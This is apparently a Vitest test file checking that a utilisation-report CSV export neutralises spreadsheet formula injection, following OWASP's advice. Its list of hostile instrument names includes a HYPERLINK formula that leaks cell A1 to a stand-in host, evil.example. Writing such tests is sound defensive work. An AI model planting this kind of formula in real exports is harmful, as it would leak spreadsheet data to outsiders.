/**
 * GET /api/reports/utilisation.csv through the one CSV writer, against instruments named as a
 * spreadsheet formula would be (OWASP "CSV Injection": a cell starting with =, +, -, @, a tab or
 * a carriage return is prefixed with ' so it stays text). Hours and percentages stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { startTestApp, type TestApp } from "../support/test-app";
import { ApiClient } from "../support/http-client";
import { makeUser, TEST_PASSWORD } from "../support/factories";
import { makeInstrument } from "../support/schedule-factories";

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Manual")', "+1 cell", "-2 cell", "@SUM(A1:A9)", "\tTabbed cell", "\rReturned cell"];
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
let manager: ApiClient;

beforeAll(async () => {
  t = await startTestApp();
  for (const name of HOSTILE) await makeInstrument(t.ds, { name, bookableHours: { mon: [{ from: "08:00", to: "18:00" }] } });
  const m = await makeUser(t.ds, { roles: ["manager"] });
  manager = new ApiClient(t.url);
  await manager.login(m.email, TEST_PASSWORD);
});
afterAll(async () => {
  await t.close();
});

describe("GET /api/reports/utilisation.csv", () => {
  it("starts no cell with a formula character, keeping each hostile name as text, and hours as numbers", async () => {
    const r = await manager.get("/api/reports/utilisation.csv?from=2026-12&to=2026-12");
    expect(r.status).toBe(200);
    expect(r.headers.get("content-type")).toMatch(/^text\/csv/);
    const parsed = Papa.parse<Record<string, string>>(r.text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const rows = parsed.data;
    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, `${column} = ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
    for (const name of HOSTILE) {
      const row = rows.find((x) => x.instrument === `'${name}`);
      expect(row, name).toBeDefined();
      // December 2026 has four Mondays (7, 14, 21, 28), 10 hours each: 40 bookable hours, none booked.
      expect(row).toMatchObject({ month: "2026-12", bookable_hours: "40.00", booked_hours: "0.00", used_hours: "0.00", booked_percent: "0.0", used_percent: "0.0" });
      expect(Number(row!.bookable_hours)).toBe(40);
    }
    // The guarded cells are quoted as OWASP recommends; the figures are not (a spreadsheet reads them as numbers).
    expect(r.text).toContain(`"'+1 cell",2026-12,40.00,0.00,0.00,0.0,0.0`);
  });
});
